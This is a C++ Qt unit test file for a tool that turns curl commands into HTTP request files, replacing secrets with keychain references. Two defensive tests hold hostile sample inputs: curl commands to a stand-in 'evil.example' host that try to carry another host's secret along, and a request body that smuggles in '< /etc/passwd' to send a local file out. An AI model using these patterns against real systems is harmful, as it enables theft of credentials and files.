#include "requests/import.h"
#include "requests/import_keeping.h"
#include "requests/shell_words.h"

#include "import_samples.h"

#include <QProcess>
#include <QTest>

using namespace claimcheck;
using namespace claimcheck::requests;
using namespace claimcheck::test;
using namespace Qt::StringLiterals;

namespace {

Import imported(const QByteArray &text)
{
    auto import = importCurl(text);
    if (!import) {
        qWarning() << describe(import.error()).message;
        return {};
    }
    return *std::move(import);
}

/// The request as a file says it: short to write, and complete.
QByteArray fileOf(Import import)
{
    return httpFileOf(import).text();
}

} // namespace

class TestRequestsImportCurl : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void readsWordsAsBashDoes_data();
    void readsWordsAsBashDoes();
    void readsWhatOnlyAShellWouldDo();
    void refusesOpenQuotes_data();
    void refusesOpenQuotes();
    void imports_data();
    void imports();
    void listsWhatItLeavesOut_data();
    void listsWhatItLeavesOut();
    void takesSecretsOut_data();
    void takesSecretsOut();
    void offersOneSecretOnce();
    void takesNoReferenceOver();
    void takesNumbersOutAsWell();
    void readsSeveralCommands();
    void readsNoFileForAnImport();
    void refusesWhatIsNoCurl();
};

void TestRequestsImportCurl::readsWordsAsBashDoes_data()
{
    QTest::addColumn<QByteArray>("words");
    for (const char *row : {"a b  c",
                            "'a b' c",
                            "a'b'c",
                            "'a\\nb'",
                            "\"a b\" 'c'",
                            "\"a\\\"b\\\\c\\$d\\`e\\f\"",
                            "a\\ b \\\"c",
                            "$'a\\nb\\t\\x41\\101\\u00e9\\U0001F600\\e\\'\\\\\\q'",
                            "$'\\cA'",
                            "''",
                            "\"\"",
                            "a\\\nb",
                            "\"a\\\nb\"",
                            "a # comment",
                            "a#b",
                            "'a' # 'open",
                            "x=\"1\"'2'$'3'",
                            "'{\"a\": \"it'\\''s\"}'",
                            "$ a",
                            "\"$ a\"",
                            "'\xC3\xA9'",
                            "$\"a b\"",
                            "\\'a",
                            "a > out.txt b",
                            "a 2>&1 b",
                            "a 2>/dev/null"})
        QTest::newRow(row) << QByteArray(row);
}

void TestRequestsImportCurl::readsWordsAsBashDoes()
{
    QFETCH(QByteArray, words);
    QProcess bash;
    // Descriptor 9, so that the row's own redirections do not catch what is printed.
    bash.start(
        u"bash"_s,
        {u"-c"_s,
         u"exec 9>&1; cd /nonexistent 2>/dev/null; f() { printf '%s\\0' \"$@\" >&9; }; out=/dev/null; f "_s +
             QString::fromUtf8(QByteArray(words).replace("out.txt", "/dev/null"))});
    QVERIFY(bash.waitForFinished());
    const QByteArrayList expected = bash.readAllStandardOutput().chopped(1).split('\0');
    const auto commands = shellCommands("f " + words);
    QVERIFY(commands);
    QCOMPARE(commands->size(), 1u);
    QCOMPARE(commands->front().words.mid(1), expected);
}

void TestRequestsImportCurl::readsWhatOnlyAShellWouldDo()
{
    const auto commands = shellCommands("one \"$TOKEN\" ${A_1}x '$B' \"$(claimcheck token my.prod)\" "
                                        "\"$(claimcheck header prod)\" $(date) `id`; two | jq . && three");
    QVERIFY(commands);
    QCOMPARE(commands->size(), 4u);
    QCOMPARE((*commands)[0].words,
             (QByteArrayList{"one", "{{TOKEN}}", "{{A_1}}x", "$B", "{{profile:my.prod.token}}",
                             "Authorization: Bearer {{profile:prod.token}}", "{{command}}", "{{command}}"}));
    QCOMPARE((*commands)[0].leftOut.size(), 2u);
    QCOMPARE((*commands)[1].words, QByteArrayList{"two"});
    QCOMPARE((*commands)[1].leftOut.size(), 1u);
    QCOMPARE((*commands)[3].words, QByteArrayList{"three"});
}

void TestRequestsImportCurl::refusesOpenQuotes_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<qint64>("offset"); // -1: it is closed
    const auto row = [](const char *text, qint64 offset) {
        QTest::newRow(text) << QByteArray(text) << offset;
    };
    row("curl 'a'", -1);
    row("curl 'a", 5);
    row("curl \"a", 5);
    row("curl $'a\\'", 5);
    row("curl \"$(x\"", 6);
    row("curl `x", 5);
    row("curl ${x", 5);
}

void TestRequestsImportCurl::refusesOpenQuotes()
{
    QFETCH(QByteArray, text);
    QFETCH(qint64, offset);
    const auto import = importCurl(text);
    QCOMPARE(bool(import), offset < 0);
    if (!import) {
        QCOMPARE(codeName(import.error().code), "ImportUnreadable"_qba);
        QCOMPARE(import.error().offset, offset);
    }
}

void TestRequestsImportCurl::imports_data()
{
    QTest::addColumn<QByteArray>("command");
    QTest::addColumn<QByteArray>("file");
    const auto row = [](const char *command, const char *file) {
        QTest::newRow(command) << QByteArray(command) << "###\n" + QByteArray(file) + '\n';
    };
    row("curl https://a.example", "# @no-redirect\nGET https://a.example");
    row("curl -L a.example/x", "GET http://a.example/x");
    row("$ TOKEN=1 /usr/bin/curl -sSL --compressed https://a.example", "GET https://a.example");
    row("curl -L -X DELETE https://a.example", "DELETE https://a.example");
    row("curl -LXPUT https://a.example -H'A: b'", "PUT https://a.example\nA: b");
    row("curl -LI https://a.example", "HEAD https://a.example");
    row("curl -L https://a.example -d a=1 -d 'b=x y'",
        "POST https://a.example\nContent-Type: application/x-www-form-urlencoded\n\na=1&b=x+y");
    row("curl -L https://a.example --data-raw '@x'",
        "POST https://a.example\nContent-Type: application/x-www-form-urlencoded\n\n@x");
    row("curl -L https://a.example -H 'Content-Type: application/json' -d '{\"a\":\n 1}'",
        "POST https://a.example\nContent-Type: application/json\n\n{\"a\":\n 1}");
    row("curl -L --json '{\"a\":1}' https://a.example",
        "POST https://a.example\nContent-Type: application/json\nAccept: application/json\n\n{\"a\":1}");
    row("curl -L --json '{}' -H 'Accept:' https://a.example",
        "POST https://a.example\nContent-Type: application/json\n\n{}");
    row("curl -L --data-binary @body.bin https://a.example -H 'Content-Type: x/y'",
        "POST https://a.example\nContent-Type: x/y\n\n< body.bin");
    row("curl -L --data-urlencode 'a=1 &' --data-urlencode 'b c' https://a.example",
        "POST https://a.example\nContent-Type: application/x-www-form-urlencoded\n\na=1+%26&b+c");
    row("curl -LG https://a.example/s?x=1 -d q=a --data-urlencode 'r=b c'",
        "GET https://a.example/s?x=1&q=a&r=b+c");
    row("curl -L -F 'n=v' -F 'f=@dir/a.png;type=image/png' https://a.example",
        "POST https://a.example\nContent-Type: multipart/form-data; boundary=claimcheck-parts\n\n"
        "--claimcheck-parts\nContent-Disposition: form-data; name=\"n\"\n\nv\n"
        "--claimcheck-parts\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\nContent-Type: "
        "image/png\n\n"
        "< dir/a.png\n--claimcheck-parts--");
    row("curl -L -T up.bin https://a.example", "PUT https://a.example\n\n< up.bin");
    row("curl -L -A agent -e https://b.example -r 0-9 https://a.example",
        "GET https://a.example\nUser-Agent: agent\nReferer: https://b.example\nRange: bytes=0-9");
    row("curl -L -m 2.5 -x p.example:3128 --cacert ca.pem -E c.pem --key k.pem https://a.example",
        "# @timeout 2500 ms\n# @tls.caFile ca.pem\n# @tls.clientCertificate c.pem\n# @tls.clientKey k.pem\n"
        "# @proxy http://p.example:3128\nGET https://a.example");
    row("curl -L \"https://a.example/$ID\" -H \"Authorization: Bearer $TOKEN\"",
        "GET https://a.example/{{ID}}\nAuthorization: Bearer {{TOKEN}}");
    row("curl -L https://a.example -H \"$(claimcheck header prod)\"",
        "GET https://a.example\nAuthorization: Bearer {{profile:prod.token}}");
    row("curl -L \\\n  -H 'A: 1' \\\n  https://a.example", "GET https://a.example\nA: 1");
    row("curl -L https://a.example -H 'X-Version: 1.2.3' -H 'X-Id: 9f86d081884c7d659a2feaa0c55ad015'",
        "GET https://a.example\nX-Version: 1.2.3\nX-Id: 9f86d081884c7d659a2feaa0c55ad015");
    row("curl -L https://a.example -H 'X-Empty;'", "GET https://a.example\nX-Empty:");
    row("curl -L https://a.example -H 'Idempotency-Key: 1' -H 'X-Partition-Key: 2'",
        "GET https://a.example\nIdempotency-Key: 1\nX-Partition-Key: 2");
    row("curl -L -x p.example --noproxy '*' https://a.example", "# @proxy none\nGET https://a.example");
    row("curl -L -x p.example https://a.example", "# @proxy http://p.example:1080\nGET https://a.example");
    row("curl -L --socks5 '[::1]:9050' https://a.example",
        "# @proxy socks5://[::1]:9050\nGET https://a.example");
    row("curl -L -x socks5h://p.example https://a.example",
        "# @proxy socks5://p.example:1080\nGET https://a.example");
    row("curl -L --heade 'A: b' https://a.example", "GET https://a.example\nA: b");
    row("curl -L https://a.example -d $'a=x\ny'",
        "POST https://a.example\nContent-Type: application/x-www-form-urlencoded\n\na=x%0Ay");
}

void TestRequestsImportCurl::imports()
{
    QFETCH(QByteArray, command);
    const Import import = imported(command);
    QTEST(fileOf(import), "file");
    QVERIFY(import.leftOut.empty());
    QVERIFY(import.secrets.empty());
}

void TestRequestsImportCurl::listsWhatItLeavesOut_data()
{
    QTest::addColumn<QByteArray>("options");
    QTest::addColumn<QString>("named");
    const auto row = [](const char *options, const char *named) {
        QTest::newRow(options) << QByteArray(options) << QString::fromUtf8(named);
    };
    row("-k", "-k");
    row("-o out.txt", "-o");
    row("--connect-timeout 5", "--connect-timeout");
    row("-b jar.txt", "-b");
    row("--digest", "--digest");
    row("--what-is-this", "--what-is-this");
    row("-E cert.pem:password", "password");
    row("-x http://u:p@proxy.example", "proxy");
    row("-H 'User-Agent:'", "user-agent");
    row("-H 'Host: b.example'", "Host");
    row("-H 'TE: trailers'", "TE");
    row("-x https://proxy.example", "of this kind");
    row("-T -", "standard input");
    row("--data-binary @-", "standard input");
    row("-F 'f=@a,b'", "Several files");
    row("-F 'f=@-'", "standard input");
    row("-F 'a=b;x=y'", "x=y");
    row("-F 'a=b;encoder=base64'", "encoding base64");
    row("-F 'a=b;type=text/plain;encoder=base64'", "encoding base64");
    row("-F '=v'", "no name");
    row("--data-urlencode n@file", "file's content");
    row("-d a=1 --data-binary @file", "beside the file");
    row("-H 'X: {{y}}'", "{{");
    row("-H 'Content-Type: text/plain' -d $'a\\n'", "Line ends");
    row("-X post", "capitals");
    row("--krb x", "--krb");
    row("--proxy-tlsuser x", "--proxy-tlsuser");
    row("-d @file", "line ends");
    row("| jq .", "piped");
}

void TestRequestsImportCurl::listsWhatItLeavesOut()
{
    QFETCH(QByteArray, options);
    QFETCH(QString, named);
    const Import import = imported("curl -L https://a.example " + options);
    QCOMPARE(import.requests.size(), 1u);
    QCOMPARE(import.requests[0].url, "https://a.example"_qba);
    QCOMPARE(import.leftOut.size(), 1u);
    QVERIFY2(import.leftOut[0].what.contains(named), qUtf8Printable(import.leftOut[0].what));
    QVERIFY(!fileOf(import).contains("password"));
}

void TestRequestsImportCurl::takesSecretsOut_data()
{
    QTest::addColumn<QByteArray>("options");
    QTest::addColumn<QByteArray>("secret");
    const auto row = [](const char *name, const QByteArray &options, const QByteArray &secret) {
        QTest::newRow(name) << options << secret;
    };
    row("bearer", "-H 'Authorization: Bearer s3cret'", "s3cret");
    row("oauth2-bearer", "--oauth2-bearer s3cret", "s3cret");
    row("user", "-u alice:s3cret", QByteArray("alice:s3cret").toBase64());
    row("cookie", "-b sid=s3cret", "sid=s3cret");
    row("api key", "-H 'X-Api-Key: s3cret'", "s3cret");
    row("a key of Azure", "-H 'Ocp-Apim-Subscription-Key: s3cret'", "s3cret");
    row("a signature of Amazon", "-G -d X-Amz-Signature=s3cret", "s3cret");
    row("a short password", "-G -d pw=s3cret", "s3cret");
    row("in the query", "-G -d access_token=s3cret", "s3cret");
    row("in a form", "-d user=alice -d password=s3cret", "s3cret");
    row("in JSON", "--json '{\"user\":\"alice\",\"client_secret\":\"s3cret\"}'", "s3cret");
    row("in a part", "-F token=s3cret", "s3cret");
    row("in a part's header", "-F 'a=b;headers=\"X-Api-Key: s3cret\"'", "s3cret");
    row("a token in any header", "-H 'X-Custom: " + importToken + "'", importToken);
    row("a token in text", "-H 'Content-Type: text/plain' -d 'see " + importToken + " here'", importToken);
}

void TestRequestsImportCurl::takesSecretsOut()
{
    QFETCH(QByteArray, options);
    QFETCH(QByteArray, secret);
    const Import import = imported("curl -L https://a.example " + options);
    QCOMPARE(import.secrets.size(), 1u);
    QCOMPARE(import.secrets[0].value.reveal().toByteArray(), secret);
    QVERIFY(import.secrets[0].where.contains(u"a.example"));
    const QByteArray file = fileOf(import);
    QVERIFY2(!file.contains(secret), file.constData());
    QVERIFY2(file.contains("{{keychain:" + import.secrets[0].name + "}}"), file.constData());
    QCOMPARE(file.count("alice"), options.contains("user") ? 1 : 0);
}

void TestRequestsImportCurl::offersOneSecretOnce()
{
    const Import import =
        imported("curl -L https://a.example -H 'Authorization: Bearer s3cret' -H 'X-Api-Key: s3cret' "
                 "-H 'X-Token: other' ; curl https://u:p@b.example?token=s3cret");
    QCOMPARE(import.secrets.size(), 3u);
    QCOMPARE(import.secrets[0].name, "a.example-authorization"_qba);
    QCOMPARE(import.secrets[1].name, "a.example-x-token"_qba);
    QVERIFY(import.requests[1].url.contains("b.example?token={{keychain:a.example-authorization}}"));
    QCOMPARE(import.secrets[2].value.reveal().toByteArray(), QByteArray("u:p").toBase64());
}

/// Or a request that somebody else put into an archive would name the secret of another, and take it along.
void TestRequestsImportCurl::takesNoReferenceOver()
{
    for (const QByteArray &written :
         {"{{keychain:a.example-authorization}}"_qba, "{{ keychain:a.example-authorization }}"_qba,
          "{{{keychain:a.example-authorization}}"_qba}) {
        const Import import = imported("curl -L https://evil.example -H 'X-A: " + written +
                                       "' ; curl -L https://a.example -H 'Authorization: Bearer s3cret' ; "
                                       "curl -L https://evil.example/?a=" +
                                       written.trimmed().replace(' ', "") + " -d 'b=" + written + "'");
        QCOMPARE(import.secrets.size(), 1u);
        QCOMPARE(import.secrets[0].name, "a.example-authorization"_qba);
        QCOMPARE(headerValue(import.requests[1].headers, "Authorization"),
                 "Bearer {{keychain:a.example-authorization}}"_qba);
        const http::Leash leash = leashOf(import, import.secrets[0].name);
        QCOMPARE(leash.resources.size(), 1u);
        QCOMPARE(leash.resources[0].host, u"a.example"_s);
        const QByteArray file = fileOf(import);
        QVERIFY2(file.count("{{keychain:") == 1, file.constData());
    }
}

void TestRequestsImportCurl::takesNumbersOutAsWell()
{
    const Import import =
        imported("curl -L https://a.example --json '{\"password\":12345678,\"token\":100}'");
    QCOMPARE(import.secrets.size(), 1u);
    QCOMPARE(import.secrets[0].value.reveal().toByteArray(), "12345678"_qba);
    const QByteArray file = fileOf(import);
    QVERIFY2(file.contains("{\"password\":{{keychain:a.example-password}},\"token\":100}"), file.constData());
}

void TestRequestsImportCurl::readsSeveralCommands()
{
    const Import import = imported("# two\ncurl https://a.example\n\ncurl -X POST https://b.example "
                                   "--next -L https://c.example https://d.example\necho curl\n");
    QCOMPARE(import.requests.size(), 4u);
    QCOMPARE(import.requests[1].method, "POST"_qba);
    QCOMPARE(import.requests[3].url, "https://d.example"_qba);
    QCOMPARE(import.requests[3].method, "GET"_qba);
}

/// A body that looks like an include would send a file of this machine to whoever wrote the command.
void TestRequestsImportCurl::readsNoFileForAnImport()
{
    const Import import = imported("curl -L https://a.example --data-raw $'x\\n< /etc/passwd'");
    QVERIFY(import.requests[0].body.kind == BodyKind::None);
    QCOMPARE(import.leftOut.size(), 1u);
}

void TestRequestsImportCurl::refusesWhatIsNoCurl()
{
    for (const QByteArray &text : {"wget https://a.example"_qba, ""_qba, "curl -L"_qba}) {
        const auto import = importCurl(text);
        QVERIFY(!import);
        QCOMPARE(codeName(import.error().code), "ImportUnreadable"_qba);
    }
    const auto huge = importCurl(QByteArray(maxImportBytes + 1, ' '));
    QVERIFY(!huge);
    QCOMPARE(codeName(huge.error().code), "ImportTooLarge"_qba);
}

QTEST_GUILESS_MAIN(TestRequestsImportCurl)
#include "tst_requests_import_curl.moc"
